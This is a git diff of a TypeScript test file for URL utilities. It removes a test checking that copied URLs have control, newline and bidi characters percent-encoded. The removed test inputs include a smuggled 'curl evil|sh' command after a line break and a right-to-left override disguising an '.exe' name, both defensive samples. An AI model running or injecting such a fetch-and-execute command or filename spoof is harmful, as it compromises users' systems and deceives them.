@@ -1,5 +1,5 @@
 import * as assert from 'node:assert/strict';
-import { clipboardUrls, isLoopbackHost, linkQuery, openableUrl, pinnedUrl, reportPageUrl, urlForLog } from '../../../src/common/urls';
+import { isLoopbackHost, linkQuery, openableUrl, pinnedUrl, reportPageUrl, urlForLog } from '../../../src/common/urls';
 
 describe('URL rules (src/common/urls)', () => {
   it('item 2: openableUrl refuses a backslash, user info and other schemes', () => {
@@ -70,16 +70,5 @@ describe('URL rules (src/common/urls)', () => {
     assert.equal(late.params.get('service'), 'https://svc.test:8443');
     // `url=` inside another parameter's value is not the URL.
     assert.equal(linkQuery('next=curl=x').url, undefined);
-  });
-
-  it('Copy URL: one line of printable text; control, line-break and bidi characters percent-encoded', () => {
-    assert.equal(clipboardUrls(['https://x.example/a?b=1']), 'https://x.example/a?b=1');
-    assert.equal(clipboardUrls(['https://x.example/a\ncurl evil|sh\n']), 'https://x.example/a%0Acurl evil|sh%0A');
-    assert.equal(clipboardUrls(['https://x.example/\u001b[2Jx\u202egpj.exe\u2028']), 'https://x.example/%1B[2Jx%E2%80%AEgpj.exe%E2%80%A8');
-    assert.equal(clipboardUrls(['https://bücher.example/straße']), 'https://bücher.example/straße', 'printable Unicode stays');
-    const several = clipboardUrls(['https://a.example/', 'https://b.example/\r\nx']);
-    assert.equal(several, 'https://a.example/ https://b.example/%0D%0Ax');
-    // eslint-disable-next-line no-control-regex -- finding control characters is the point
-    assert.doesNotMatch(several, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
   });
 });
